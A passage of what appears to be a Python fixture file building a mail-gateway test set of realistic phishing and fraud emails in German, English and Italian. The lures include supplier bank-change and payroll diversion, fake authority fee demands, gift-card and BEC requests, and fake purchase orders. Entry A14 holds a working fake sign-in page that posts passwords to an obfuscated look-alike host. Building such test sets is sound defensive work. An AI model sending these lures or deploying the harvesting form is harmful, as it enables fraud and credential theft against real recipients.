                'Zahlungen auf die alte Verbindung können nicht mehr zugeordnet werden.', '',
                'Mit freundlichen Grüßen', 'Geschäftsführung Lieferant GmbH'],
               title='Bankverbindung_Aenderung', author='s.maier', producer='Microsoft: Print To PDF')
A('de', 'lieferant-lookalike-bankwechsel', cs='utf-8', cte='qp', date='2026-11-12 10:21:44 +0100',
  via=('o365', 'eur'), clang='de-DE',
  **{'from': ('Simone Maier', 's.maier@lieferant-gmbh.com')},
  to=[S['jens']], subject='AW: Offene Posten Oktober 2026 – neue Bankverbindung',
  irt='<000301db3f2a$1c9e2b40$55da81c0$@lieferant-gmbh.de>',
  att=[('Bankverbindung_Aenderung_Lieferant_GmbH.pdf', _a02_pdf)],
  desc='Supplier bank-change fraud: look-alike lieferant-gmbh.com (real: .de), fake reply in an "open items" thread, asks to pay two due invoices (EUR 38,412.60) to a new Commerzbank IBAN; discourages phone contact.',
  text=f"""Sehr geehrter Herr Vogt,

vielen Dank für Ihre Rückmeldung zur OP-Liste. Wie bereits mit Ihrer Kollegin besprochen, haben wir im Zuge der Neuordnung unseres Zahlungsverkehrs die Hausbank gewechselt. Die bisherige Verbindung bei der Kreissparkasse wird zum 30.11.2026 geschlossen; Zahlungseingänge darauf werden ab sofort automatisch zurückgebucht.

Bitte überweisen Sie die folgenden beiden fälligen Rechnungen daher bereits auf die neue Bankverbindung:

RE-2026-10418 vom 14.10.2026 – 21.870,40 EUR
RE-2026-10455 vom 22.10.2026 – 16.542,20 EUR
Gesamt: 38.412,60 EUR

Neue Bankverbindung:
Kontoinhaber: Lieferant GmbH
Bank: Commerzbank AG
IBAN: {IB['att_de_lief']}
BIC: COBADEFFXXX

Das offizielle Schreiben unserer Geschäftsführung finden Sie im Anhang. Über eine kurze Zahlungsbestätigung (Zahlungsavis) per E-Mail würden wir uns freuen, damit wir die Posten ausbuchen können. Aufgrund der Systemumstellung sind wir diese Woche telefonisch nur eingeschränkt erreichbar, bitte nutzen Sie daher diese E-Mail-Adresse.

Mit freundlichen Grüßen

Simone Maier
Vertriebsinnendienst / Debitorenmanagement
Lieferant GmbH
Gänsäcker 12 · 78532 Tuttlingen
Tel. +49 7461 9688-0
""")

# ---- A03 de: fake register / directory "offer" disguised as mandatory MDR entry
_a03_pdf = pdf(['ZRMH - Zentralregister Medizinprodukte-Handel', 'Eintragungs- und Korrekturformular  Az. ZRMH-2026-448172', '',
                'Firma: Example Group GmbH', 'Anschrift: Süderstraße 77, 20097 Hamburg', 'Tätigkeit: Handel / Import Medizinprodukte und IVD',
                'SRN (falls vorhanden): ____________________', '',
                'Bitte prüfen, ergänzen und unterschrieben zurücksenden an Fax +49 30 5683 7741 oder service@zrmh-register.de', '',
                'Mit Unterschrift wird die Eintragung im Online-Verzeichnis ZRMH für 3 Jahre beauftragt.',
                'Jahresentgelt 1.186,00 EUR zzgl. USt., jährlich im Voraus fällig. Kündigung 3 Monate vor Ablauf.', '',
                'Ort, Datum, Unterschrift, Firmenstempel: ____________________________________'],
               title='Eintragungsformular', producer='GPL Ghostscript 10.02.1')
A('de', 'register-formular-abofalle', cs='windows-1252', cte='qp', date='2026-11-04 08:12:30 +0100',
  via=('host', 'mail.zrmh-register.de', 'vmi2284117.contaboserver.net', '62.171.160.214',
       [('localhost (localhost [127.0.0.1])', 'mail.zrmh-register.de (Postfix)', 'ESMTPA')], 'php'),
  **{'from': ('ZRMH Zentralregister Medizinprodukte-Handel', 'service@zrmh-register.de')},
  to=[('Example Group GmbH', 'info@example.com')], rcpt='info@example.com',
  subject='Aktualisierung Ihres Eintrags gemäß MDR/MPDG – Az. ZRMH-2026-448172',
  hdrs=[('X-Mailer', 'PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)')],
  att=[('Eintragungsformular_ZRMH-2026-448172.pdf', _a03_pdf)],
  desc='Directory/register trap: official-looking "MDR/MPDG register update" form whose small print is a 3-year paid listing at EUR 1,186/year; sent from a Contabo VPS to the info@ mailbox.',
  text="""Sehr geehrte Damen und Herren,

Wirtschaftsakteure, die Medizinprodukte oder In-vitro-Diagnostika in Verkehr bringen oder bereitstellen, sind verpflichtet, ihre Unternehmensdaten aktuell zu halten (vgl. Art. 31 VO (EU) 2017/745, § 4 MPDG).

Für Ihr Unternehmen Example Group GmbH liegen uns unvollständige Angaben vor (SRN, Ansprechpartner Regulatory, Lageranschrift). Bitte prüfen Sie die Angaben im beigefügten Formular, ergänzen Sie fehlende Daten und senden Sie das Formular unterschrieben und mit Firmenstempel bis zum 18.11.2026 per Fax an +49 30 5683 7741 oder per E-Mail zurück.

Nach Eingang Ihrer Unterlagen wird Ihr Eintrag im Zentralregister aktualisiert und Ihr Unternehmen für Einkäufer von Kliniken und Laboren sichtbar gelistet. Es gelten unsere AGB und die Entgeltangaben im Formular.

Mit freundlichen Grüßen

ZRMH Zentralregister Medizinprodukte-Handel
Datenpflege / Registerverwaltung
Friedrichstraße 95, 10117 Berlin
Tel. +49 30 5683 7740
""")

# ---- A04 de: M365 password expiry credential phishing, HTML only
_t, _h = notif('utf-8', 'Example Group IT-Service', '#0067b8', 'Ihr Kennwort läuft heute ab',
               ['Hallo Miriam Yilmaz,',
                'das Kennwort für Ihr Microsoft-365-Konto miriam.yilmaz@example.com läuft am 24.11.2026 um 23:59 Uhr ab. Danach werden Outlook, Teams und SharePoint auf allen Geräten gesperrt, bis die IT das Konto manuell freischaltet.',
                'Sie können Ihr aktuelles Kennwort mit einem Klick beibehalten. Die Bestätigung dauert weniger als eine Minute.',
                'Dies ist eine automatische Benachrichtigung Ihrer IT-Abteilung gemäß der Kennwortrichtlinie der Example Group.'],
               'Aktuelles Kennwort beibehalten',
               'https://examplegroup-m365.sharepoint-auth.com/kennwort/?upn=miriam.yilmaz%40example.com&ref=EXG-7741',
               'Example Group IT-Service · Süderstraße 77 · 20097 Hamburg\nDiese Nachricht wurde an miriam.yilmaz@example.com gesendet.')
A('de', 'm365-kennwort-ablauf-phishing', cs='utf-8', cte='b64', fmt='html', html=_h, date='2026-11-24 07:55:10 +0100',
  via=('host', 'server1.bautechnik-kraus.at', 'server1.bautechnik-kraus.at', '185.26.156.47',
       [('bautechnik-kraus.at (localhost [127.0.0.1])', 'server1.bautechnik-kraus.at (Postfix)', 'ESMTPSA')], 'php'),
  **{'from': ('IT-Service Example Group', 'it-service@examp1e.com')},
  to=[S['miriam']], subject='Aktion erforderlich: Kennwort für miriam.yilmaz@example.com läuft heute ab',
  desc='Credential phishing: HTML-only "password expires today" mail from look-alike examp1e.com, sent through a compromised Austrian web server, button to a fake Microsoft 365 page.')

# ---- A05 de: fake BfArM / DMIDS registration fee demand
A('de', 'fake-bfarm-dmids-gebuehr', cs='iso-8859-1', cte='qp', date='2026-11-26 13:37:02 +0100',
  via=('host', 'mx.bfarm-registrierung.de', '51-68-190-33.ovh.net', '51.68.190.33', [], 'php'), tls=False,
  **{'from': ('BfArM - DMIDS Registrierungsstelle', 'dmids@bfarm-registrierung.de')},
  to=[S['katrin']], subject='Nachweis der Registrierung nach MPDG - Frist 03.12.2026 (Az. 93-5.1-A-26/4471)',
  desc='Fake authority: look-alike BfArM domain claims the DMIDS/EUDAMED registration is incomplete, demands a EUR 385 "fee" and threatens a fine of up to EUR 30,000; link to a fake portal.',
  text="""Bundesinstitut für Arzneimittel und Medizinprodukte
Abteilung Medizinprodukte - DMIDS Registrierungsstelle
Kurt-Georg-Kiesinger-Allee 3, 53175 Bonn

Az.: 93-5.1-A-26/4471

Sehr geehrte Frau Dr. Albrecht,

bei der Überprüfung der Anzeigen von Händlern und Importeuren im Deutschen Medizinprodukte-Informations- und Datenbanksystem (DMIDS) wurde festgestellt, dass für die Example Group GmbH der Nachweis der Registrierung als Importeur sowie die Benennung der verantwortlichen Person (PRRC) nicht vollständig hinterlegt sind.

Gemäß § 4 Abs. 2 MPDG in Verbindung mit der Medizinprodukte-Gebührenverordnung ist für die Ausstellung der Registrierungsbestätigung eine Gebühr von 385,00 EUR zu entrichten. Bitte vervollständigen Sie die Angaben und begleichen Sie die Gebühr bis spätestens 03.12.2026 über das Online-Verfahren:

https://dmids-bfarm.de-portal.org/registrierung/?az=93-5.1-A-26-4471

Nach Ablauf der Frist wird ein Ordnungswidrigkeitenverfahren nach § 94 MPDG eingeleitet; das Bußgeld kann bis zu 30.000 EUR betragen.

Diese Nachricht wurde maschinell erstellt und ist ohne Unterschrift gültig.

Mit freundlichen Grüßen
Im Auftrag
Registrierungsstelle DMIDS
""")

# ---- A06 de: payroll diversion via free-mail display-name impersonation
A('de', 'gehaltskonto-aenderung-freemail', cs='utf-8', cte='qp', fmt='alt', date='2026-11-23 08:03:51 +0100',
  via=('gmail',), **{'from': ('Jens Vogt', 'jens.vogt.hh@gmail.com')},
  to=[S['lena']], subject='Änderung Gehaltskonto ab November',
  desc='Payroll diversion: display name of a real employee on a Gmail address asks HR to switch his salary to a new DKB IBAN before the November payroll run, citing a broken 2FA for the HR portal.',
  text=f"""Hallo Lena,

kurze Bitte: ich habe mein Gehaltskonto gewechselt (bin zur DKB gegangen). Kannst Du das noch für die November-Abrechnung ändern?

Kontoinhaber: Jens Vogt
IBAN: {IB['att_de_payroll']}
BIC: BYLADEM1001

Ins Personalportal komme ich gerade nicht rein, die 2FA-App spinnt seit dem Handywechsel. Ich schreibe Dir deshalb von meiner privaten Adresse. Die alte Verbindung bitte nicht mehr nutzen, das Konto ist schon gekündigt.

Danke Dir und viele Grüße
Jens

Von meinem iPhone gesendet
""")

# ---- A07 de: compromised hospital mailbox sending a fake tender document link
_t7 = """Sehr geehrte Damen und Herren,

im Rahmen unserer Angebotsanforderung 2026-118 (Laborverbrauchsmaterial, Pipettenspitzen und Probengefäße für das Zentrallabor, Rahmenvereinbarung 2027-2028) stellen wir Ihnen die Vergabeunterlagen über unseren Dokumentenbereich zur Verfügung.

Unterlagen ansehen (PDF, 2,4 MB): https://klinikum-lindenau-vergabe.pages.dev/unterlagen/2026-118

Zur Freigabe melden Sie sich bitte mit Ihrer geschäftlichen E-Mail-Adresse an. Die Frist zur Angebotsabgabe endet am 04.12.2026, 12:00 Uhr.

Mit freundlichen Grüßen

Petra Lange
Zentraleinkauf / Materialwirtschaft
Klinikum Lindenau gGmbH
Am Lindenhof 2, 21335 Lüneburg
Tel. +49 4131 770-2214
"""
A('de', 'kompromittiertes-klinikum-vergabeunterlagen', cs='utf-8', cte='qp', fmt='alt', date='2026-11-17 14:09:27 +0100',
  via=('o365', 'eur'), clang='de-DE', **{'from': ('Lange, Petra', 'p.lange@klinikum-lindenau.de')},
  to=[S['miriam']], subject='Angebotsanforderung 2026-118 Laborverbrauchsmaterial – Vergabeunterlagen',
  text=_t7, html=auto_html(_t7, 'utf-8', [('Unterlagen ansehen (PDF, 2,4 MB)', 'https://klinikum-lindenau-vergabe.pages.dev/unterlagen/2026-118')]),
  desc='Compromised real customer mailbox (hospital M365 tenant) sends a plausible tender request; the "documents" link leads to a credential-harvesting page on pages.dev.')

# ---- A08 en: fake university purchase order, goods on credit to a freight forwarder
_a08_pdf = pdf(['WEXFORD STATE UNIVERSITY - PURCHASING SERVICES', '1200 University Ave, Wexford, PA 15090, USA', '',
                'PURCHASE ORDER  No. WSU-PO-2026-88417          Date: 11/09/2026', 'Vendor: Example Group UK Ltd, Reading RG2 6UB, United Kingdom', '',
                'Item  Qty  Description                                            Unit',
                '1     12   Refrigerated benchtop centrifuge, 24x1.5/2.0 ml         EA',
                '2     35   Digital trinocular microscope with 5MP camera          EA',
                '3     40   Single-channel pipette set 0.5-1000 ul (4 pcs)         SET', '',
                'Terms: NET 30 days after delivery.  Shipping: DAP',
                'SHIP TO: WSU Receiving c/o Linden Freight Services, 6 Industrial Way, Suite 14, Linden, NJ 07036', '',
                'Authorized by: Dr. Raymond Cole, Director of Procurement', 'Tax exempt certificate on file.'],
               title='PO WSU-PO-2026-88417', producer='Microsoft Excel 2019')
A('en', 'fake-university-purchase-order', cs='us-ascii', cte='7bit', date='2026-11-09 09:14:33 -0500',
  via=('host', 'mta-07.privateemail.com', 'mta-07.privateemail.com', '198.54.127.63',
       [('[10.66.1.24] (pool-100-37-12-88.nycmny.fios.verizon.net [100.37.12.88])', 'mta-07.privateemail.com (Postfix)', 'ESMTPA')], 'tb'),
  **{'from': ('Raymond Cole', 'r.cole@wexfordstate-edu.us')},
  reply_to=('WSU Purchasing', 'purchasing.wexfordstate@proton.me'),
  to=[S['james']], subject='Request for Quote / Purchase Order WSU-PO-2026-88417',
  att=[('WSU-PO-2026-88417.pdf', _a08_pdf)],
  hdrs=[('User-Agent', 'Mozilla Thunderbird')],
  desc='Fake university purchase order: look-alike "-edu.us" domain with Reply-To on Proton Mail, asks for lab equipment on NET-30 credit shipped to a New Jersey freight forwarder and for a credit application.',
  text="""Good morning,

Wexford State University is expanding its teaching laboratories for the spring 2027 semester and we would like to purchase the items on the attached purchase order from your company.

Kindly confirm availability and send us your best pricing and lead time. As a public institution we pay on NET 30 terms; please also forward your credit application form so our accounts payable department can set you up as an approved vendor.

Please note that all goods must be shipped to our consolidation partner Linden Freight Services in Linden, NJ, who handles receiving for our campus. We will provide our tax exemption certificate upon request.

We look forward to working with you.

Best regards,

Dr. Raymond Cole
Director of Procurement
Wexford State University
1200 University Ave, Wexford, PA 15090
Phone: +1 (724) 555-0187
""")

# ---- A09 en: callback phishing (fake subscription renewal invoice)
_a09_pdf = pdf(['SafeGuard 360 Total Protection - INVOICE', '', 'Invoice No: SG-UK-77820914        Date: 30 Nov 2026',
                'Customer ID: 4471-0918-UK', '', 'Product: SafeGuard 360 Premium - 5 devices - 3 years', 'Payment method: Auto debit',
                'Amount charged: GBP 389.99', '', 'If you did not authorize this renewal, call our billing desk within 24 hours:',
                '+44 20 3868 1742  (Mon-Sun 8am-10pm)', '', 'Refunds are processed only by phone.'],
               title='Invoice SG-UK-77820914', producer='Skia/PDF m120')
A('en', 'callback-phishing-renewal-invoice', cs='utf-8', cte='qp', fmt='alt', date='2026-11-30 11:48:09 +0000',
  via=('gmail',), **{'from': ('Billing Support', 'wendell.morrisw83@gmail.com')},
  to=[S['sarah']], subject='Your SafeGuard 360 subscription has been renewed – Order #SG-UK-77820914',
  att=[('Invoice_SG-UK-77820914.pdf', _a09_pdf)],
  desc='Callback phishing (TOAD): fake GBP 389.99 antivirus renewal invoice from a Gmail account, no links, only a UK phone number to call for a "refund".',
  text="""Dear Customer,

Thank you for renewing your SafeGuard 360 Premium subscription. Your payment of £389.99 has been processed successfully and will appear on your statement within 24–48 hours.

Order number: SG-UK-77820914
Product: SafeGuard 360 Premium (5 devices, 3 years)
Amount: £389.99

If you did not authorise this transaction or wish to cancel, please contact our billing department within 24 hours on +44 20 3868 1742. After this period the payment cannot be reversed.

Your invoice is attached for your records.

Kind regards,
SafeGuard Billing Team
""")

# ---- A10 en: fake notified-body certificate suspension notice
_t10 = """Dear Economic Operator,

This notice is sent to all importers and distributors registered against the certificate listed below.

Certificate: CM-MDR-2024-0117 (EU MDR 2017/745, Annex IX)
Manufacturer: Ningbo Huakang Medical Technology Co., Ltd.
Status: SUSPENDED with effect from 02 December 2026

Following the findings of an unannounced audit, the certificate has been suspended pending corrective actions. Devices covered by this certificate must not be made available on the market until further notice. The suspension decision and the list of affected UDI-DIs are available in our secure economic operator portal.

View suspension decision: https://certamed-nb-portal.com/eo/notice?id=CM-MDR-2024-0117&op=example.com

Access to the document expires 48 hours after this notice. Please sign in with your corporate Microsoft 365 account to confirm receipt, as required under Article 14 MDR.

CertaMed Notified Body – Certification Services
This is an automated message, please do not reply.
"""
A('en', 'fake-notified-body-suspension', cs='utf-8', cte='qp', fmt='alt', date='2026-12-02 06:41:17 +0000',
  via=('host', 'o412.ptr7781.certamed-nb-portal.com', 'o412.ptr7781.certamed-nb-portal.com', '149.72.184.91', [], 'esp'),
  **{'from': ('CertaMed NB Certification Services', 'noreply@certamed-nb-portal.com')},
  to=[S['priya']], subject='ACTION REQUIRED: Suspension of EU MDR certificate CM-MDR-2024-0117',
  text=_t10, html=auto_html(_t10, 'utf-8', [('View suspension decision', 'https://certamed-nb-portal.com/eo/notice?id=CM-MDR-2024-0117&op=example.com')], font='Arial, sans-serif'),
  desc='Fake notified-body notice: look-alike of the real certification body (certamed-nb.eu) announces suspension of a supplier certificate, 48-hour link to "sign in with Microsoft 365" to read the decision.')

# ---- A11 en: gift-card request impersonating the UK MD
A('en', 'gift-card-request-md', cs='utf-8', cte='qp', fmt='alt', date='2026-12-08 10:22:40 +0000',
  via=('hotmail',), **{'from': ('James Whitfield', 'james.whitfield.exgroup@outlook.com')},
  to=[S['sarah']], subject='Quick favour',
  desc='Gift-card scam: UK managing director impersonated via an outlook.com address; asks for eight GBP 100 Apple gift cards and photos of the codes, "in a meeting, can\'t talk".',
  text="""Hi Sarah,

Are you at your desk? I need you to sort something out for me discreetly.

I'm in the evaluation meeting with the Trust's procurement board all morning and can't take calls. I promised the theatre team a little thank-you for their help with the trial, so I need 8 x £100 Apple gift cards. Could you pick them up (Tesco or Boots next to the office has them) and send me photos of the back of each card with the codes scratched off? I'll sort the reimbursement with you this afternoon.

Please keep it between us for now, it's meant to be a surprise.

Thanks,
James

Sent from Outlook for iOS
""")

# ---- A12 en: fake EUDAMED SRN validation fee + EU Login phishing
_t, _h = notif('utf-8', 'EUDAMED – Actor Registration', '#004494', 'Annual validation of your Single Registration Number (SRN)',
               ['Dear Dr Katrin Albrecht,',
                'Our records show that the annual validation of the following actor registration is overdue:\nActor: Example Group GmbH\nRole: Importer\nSRN: DE-IM-000018744',
                'Under the gradual roll-out of the mandatory EUDAMED modules (Regulation (EU) 2024/1860), actors must confirm their registration data and pay the annual validation fee of €290.00 before 15 December 2026. Non-validated SRNs will be deactivated and linked UDI/device records hidden from national competent authorities.',
                'Please sign in with your EU Login credentials to validate your data and complete the payment.'],
               'Validate SRN now', 'https://eudamed-registration.eu/actor/validate?srn=DE-IM-000018744',
               'European Database on Medical Devices – Actor Registration Support\nThis is an automatic notification. Please do not reply to this e-mail.')
A('en', 'fake-eudamed-srn-validation', cs='utf-8', cte='qp', fmt='alt', text=_t, html=_h, date='2026-12-01 09:05:51 +0100',
  via=('host', 'mail.eudamed-registration.eu', 'vps-5c1e02a7.vps.ovh.net', '54.37.191.208', [], 'php'),
  **{'from': ('EUDAMED Actor Registration', 'no-reply@eudamed-registration.eu')},
  to=[S['katrin']], subject='[EUDAMED] Annual SRN validation overdue – DE-IM-000018744',
  desc='Fake regulatory demand: look-alike EUDAMED domain demands a non-existent EUR 290 annual SRN validation fee and EU Login credentials, threatening deactivation.')

# ---- A13 en: Chinese supplier look-alike, bank account "under audit", pay HK/GB account
A('en', 'supplier-lookalike-account-under-audit', cs='utf-8', cte='b64', date='2026-11-13 15:26:02 +0800',
  via=('host', 'mail.hkmed-ningbo.co', 'unknown', '103.151.229.18', [], 'tb'), tls=False,
  **{'from': ('Lily Chen', 'lily.chen@hkmed-ningbo.co')},
  reply_to=('Lily Chen', 'lily.chen.hkmed@163.com'),
  to=[S['tobias']], cc=[S['jens']], subject='RE: PI HK-20261009 balance payment / shipping schedule',
  irt='<2026110809412155873124@hkmed-ningbo.com>',
  hdrs=[('X-Mailer', 'Foxmail 7.2.25.228[cn]')],
  desc='Supplier impersonation: look-alike hkmed-ningbo.co (real .com) with Reply-To on 163.com says the company account is "under tax audit" and asks to pay USD 86,400 to a UK fintech IBAN.',
  text=f"""Dear Tobias,

Good day. Thanks for your confirmation of the inspection report, the goods for PI HK-20261009 are ready and we can book the vessel from Ningbo on 20th Nov.

Please kindly note that our company Bank of China account is under annual audit by tax bureau and SAFE at the moment and can not receive foreign currency until end of January. Our finance manager asks that the balance payment USD 86,400.00 is arranged to our overseas trading account below, so we can release the B/L without delay:

Beneficiary: Huakang Medical Trading (UK) Ltd
Bank: ClearBank Ltd, London
IBAN: {IB['att_gb']}
SWIFT: CLRBGB22

Please send us the bank slip once done. Our office telephone is under maintenance this week, please contact me by email only.

Thanks and best regards
Lily Chen
Overseas Sales Dept.
Ningbo Huakang Medical Technology Co., Ltd.
""")

# ---- A14 en: HTML attachment credential phishing posing as supplier statement
_a14_htm = ("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Crestline Diagnostics - Secure Document</title>
<style>body{font-family:Segoe UI,Arial;background:#f2f2f2}.b{width:380px;margin:80px auto;background:#fff;padding:32px;box-shadow:0 2px 6px #aaa}
input{width:100%;padding:8px;margin:6px 0}button{background:#0067b8;color:#fff;border:0;padding:10px 24px}</style></head>
<body><div class="b"><h3>Statement of account - November 2026</h3><p>This document is protected. Sign in with your work account to view it.</p>
<form id="f" method="POST" action="https://crestline-docs.azurewebsites.net.doc-view.top/s.php">
<input type="email" name="u" value="james.whitfield@example.com"><input type="password" name="p" placeholder="Password">
<button type="submit">View document</button></form></div>
<script>var e=atob("aHR0cHM6Ly9jcmVzdGxpbmUtZG9jcy5henVyZXdlYnNpdGVzLm5ldC5kb2Mtdmlldy50b3AvcC5waHA=");document.getElementById("f").action=e;</script>
</body></html>
""").encode('utf-8')
A('en', 'html-attachment-statement-phishing', cs='us-ascii', cte='7bit', fmt='alt', date='2026-11-18 16:02:55 +0000',
  via=('host', 'ip-172-31-20-44.ec2.internal', 'ec2-3-88-141-20.compute-1.amazonaws.com', '3.88.141.20', [], 'php'), tls=False,
  **{'from': ('Crestline Diagnostics - Accounts Receivable', 'ar@crestlinedx.com')},
  to=[S['james']], subject='Statement of Account - November 2026 - Example Group UK Ltd',
  att=[('Crestline_Statement_Nov2026.htm', _a14_htm)],
  desc='Spoofed supplier domain sent from an AWS EC2 host; the .htm "statement" attachment is a fake Microsoft sign-in form (pre-filled address, base64-obfuscated post URL).',
  text="""Hello,

Please find attached your statement of account for November 2026. Several items are now past due; kindly review and confirm the payment dates.

The statement is a secure document and opens in your browser.

Regards,
Accounts Receivable
Crestline Diagnostics Inc.
""")

# ---- A15 it: Ferretti look-alike, hijacked thread, new IBAN
A('it', 'ferretti-lookalike-cambio-iban', cs='windows-1252', cte='qp', date='2026-11-16 11:34:18 +0100',
  via=('host', 'smtp.ferretti-trasporti.com', 'host-87-16-214-55.business.telecomitalia.it', '87.16.214.55',
       [('[192.168.1.104] (unknown [93.41.208.17])', 'smtp.ferretti-trasporti.com (Postfix)', 'ESMTPSA')], 'outlook'),
  **{'from': ('Amministrazione Ferretti Trasporti', 'amministrazione@ferretti-trasporti.com')},
  to=[S['luca']], subject='R: Estratto conto al 31/10/2026 - aggiornamento coordinate bancarie',
  irt='<004b01db3e11$8e21f0a0$aa65d1e0$@examplegroup.eu>',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'it')],
  desc='Thread hijack with look-alike ferretti-trasporti.com (real: .it): quotes Luca\'s earlier mail and asks to settle EUR 12,640 of carrier invoices on a "new" IBAN before month-end.',
  text=f"""Gentile Dott. Bianchi,

grazie per l'estratto conto, i saldi corrispondono.

Le comunichiamo che, a seguito dell'incorporazione del nostro istituto di credito, le coordinate bancarie della Ferretti Trasporti S.r.l. sono cambiate. Le chiediamo pertanto di disporre il pagamento delle fatture in scadenza sul nuovo conto:

Fatt. 2026/FT/1873 del 30/09/2026 - € 7.420,00
Fatt. 2026/FT/1902 del 15/10/2026 - € 5.220,00
Totale: € 12.640,00

Intestatario: Ferretti Trasporti S.r.l.
IBAN: {IB['att_it']}

Il vecchio IBAN non è più attivo e i bonifici verrebbero respinti. Le chiediamo cortesemente di inviarci la contabile entro venerdì, per evitare il blocco dei ritiri programmati per dicembre.

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.r.l.
Via dell'Industria 18 - 24040 Ciserano (BG)

-----Messaggio originale-----
Da: Luca Bianchi <luca.bianchi@examplegroup.eu>
Inviato: giovedì 12 novembre 2026 09:47
A: amministrazione@ferretti-trasporti.it
Oggetto: Estratto conto al 31/10/2026

Buongiorno,
in allegato il nostro estratto conto fornitore al 31/10. Vi chiedo conferma dei saldi.
Grazie e buona giornata,
Luca Bianchi
Example Group Italia S.r.l.
""")

# ---- A16 it: fake tender platform (Sintel look-alike), credential phishing
_t, _h = notif('utf-8', 'Sintel – E-Procurement', '#00539f', 'Scadenza qualificazione operatore economico',
               ['Gentile Operatore Economico EXAMPLE GROUP ITALIA S.R.L.,',
                'la qualificazione della Sua impresa sulla piattaforma Sintel per le categorie merceologiche 33140000 (materiali medici) e 38434000 (analizzatori) scade tra 72 ore.',
                'Senza il rinnovo, la Sua impresa non potrà presentare offerte nelle procedure in corso, tra cui la gara ID 214477831 "Fornitura di dispositivi per prelievo venoso – ASST lotti 1-9", e sarà esclusa dagli inviti delle stazioni appaltanti.',
                'Per mantenere l\'abilitazione acceda all\'area riservata con le credenziali del legale rappresentante e confermi i dati.'],
               'Rinnova qualificazione', 'https://sintel-ariaspa.com/portale/rinnovo?oe=EXG-IT-04471',
               'ARIA S.p.A. – Azienda Regionale per l\'Innovazione e gli Acquisti\nMessaggio generato automaticamente, si prega di non rispondere.')
A('it', 'finta-piattaforma-gare-sintel', cs='utf-8', cte='qp', fmt='alt', text=_t, html=_h, date='2026-11-10 07:32:45 +0100',
  via=('host', 'mail.sintel-ariaspa.com', 'static.241.12.99.5.clients.your-server.de', '5.99.12.241', [], 'php'),
  **{'from': ('Sintel - Notifiche', 'notifiche@sintel-ariaspa.com')},
  to=[S['chiara']], subject='Sintel: la qualificazione della Sua impresa scade tra 72 ore',
  desc='Fake tender platform: look-alike of the Lombardy e-procurement platform Sintel warns that the firm\'s qualification expires in 72 h and asks for the legal representative\'s credentials.')

# ---- A17 it: fake Agenzia delle Entrate notice with ZIP containing a script
_a17_zip = _zip([('Avviso_Accertamento_2026_0047731.pdf.js',
                  '// INERT TEST SAMPLE - evaluation set for a mail gateway. Contains no functional code.\n'
                  '// Real lures of this type carry an obfuscated JScript downloader.\nvar x = "inert";\n')])
A('it', 'finta-agenzia-entrate-zip', cs='iso-8859-15', cte='qp', date='2026-11-05 09:58:11 +0100',
  via=('host', 'webmail.studioverdi-commercialisti.it', 'webmail.studioverdi-commercialisti.it', '31.11.33.78',
       [('localhost (localhost [127.0.0.1])', 'webmail.studioverdi-commercialisti.it (Postfix)', 'ESMTPA')], 'rc'),
  **{'from': ('Agenzia delle Entrate', 'comunicazioni@studioverdi-commercialisti.it')},
  to=[S['luca']], subject='Comunicazione di irregolarità - art. 36-bis DPR 600/73 - Prot. 2026/0047731',
  att=[('Avviso_Accertamento_2026_0047731.zip', _a17_zip)],
  hdrs=[('User-Agent', 'Roundcube Webmail/1.6.6')],
  desc='Malware lure: "Agenzia delle Entrate" display name on a compromised accountant\'s webmail, tax-irregularity notice with a ZIP holding a .pdf.js script (inert placeholder).',
  text="""Agenzia delle Entrate
Direzione Provinciale di Milano - Ufficio Controlli

Prot. n. 2026/0047731

Spett.le EXAMPLE GROUP ITALIA S.R.L.,

a seguito del controllo automatizzato della dichiarazione (art. 36-bis del D.P.R. 600/1973) relativa al periodo d'imposta 2024 sono emerse irregolarità nei versamenti IVA per un importo di € 18.412,77, oltre a sanzioni e interessi.

In allegato trasmettiamo la comunicazione completa con il dettaglio degli importi. Entro 30 giorni dal ricevimento è possibile regolarizzare la posizione beneficiando della riduzione delle sanzioni, oppure segnalare eventuali elementi non considerati.

Il documento è compresso per motivi di sicurezza. Aprire l'allegato da un computer Windows.

Distinti saluti
Il Capo Ufficio
""")

# ---- A18 it: CEO/manager fraud from Gmail
A('it', 'bec-country-manager-gmail', cs='utf-8', cte='qp', fmt='alt', date='2026-12-03 12:14:09 +0100',
  via=('gmail',), **{'from': ('Giulia Ferraro', 'giulia.ferraro.exgroup@gmail.com')},
  to=[S['luca']], subject='Sei in ufficio?',
  desc='BEC: Italian country manager impersonated from Gmail, "are you in the office?" opener asking for a confidential same-day transfer and WhatsApp contact.',
  text="""Ciao Luca,

sei in ufficio? Ho bisogno che mi gestisci con urgenza un bonifico riservato, oggi entro le 15:00. Si tratta dell'anticipo per un accordo di esclusiva con un nuovo produttore, la cosa è ancora confidenziale e non ne deve sapere nulla nessuno finché non firmiamo (lo sa solo Markus).

Sono in riunione tutto il pomeriggio e non posso rispondere al telefono. Scrivimi solo qui o su WhatsApp al +39 351 784 2019 (numero nuovo, l'altro ha problemi), ti mando subito IBAN e importo.

Grazie mille,
Giulia

Inviato da iPhone
""")

# ---- A19 it: fake hospital purchase order (look-alike of a real customer), delivery to third-party warehouse
A('it', 'falso-ordine-ospedale-consegna-terzi', cs='iso-8859-1', cte='qp', date='2026-11-20 10:03:37 +0100',
  via=('host', 'mail.ao-valleserena.com', 'vm-185-214-10-77.cloud.aruba.it', '185.214.10.77', [], 'outlook'),
  **{'from': ('UOC Provveditorato - AO Valle Serena', 'provveditorato@ao-valleserena.com')},
  reply_to=('Provveditorato AO Valle Serena', 'acquisti.aovalleserena@libero.it'),
  to=[S['giulia']], cc=[S['chiara']], subject='Ordine urgente n. 2026/OD/7781 - fornitura dispositivi',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='Fake hospital order: look-alike of a real customer (ao-valleserena.com vs .it), Reply-To on libero.it, urgent order of defibrillators and tests on 90-day credit delivered to a "temporary external warehouse" in Prato.',
  text="""Spett.le Example Group Italia S.r.l.,

a causa di una carenza imprevista nelle scorte del nostro presidio, con la presente Vi trasmettiamo l'ordine urgente n. 2026/OD/7781 per la seguente fornitura:

- n. 18 defibrillatori semiautomatici esterni (DAE) con borsa e piastre adulto
- n. 300 confezioni test rapidi antigenici (25 test/conf.)
- n. 60 pulsossimetri da dito

Pagamento: bonifico a 90 giorni data fattura, come da condizioni in convenzione.

Per lavori di ristrutturazione del magazzino centrale, la merce dovrà essere consegnata presso il nostro deposito esterno temporaneo:
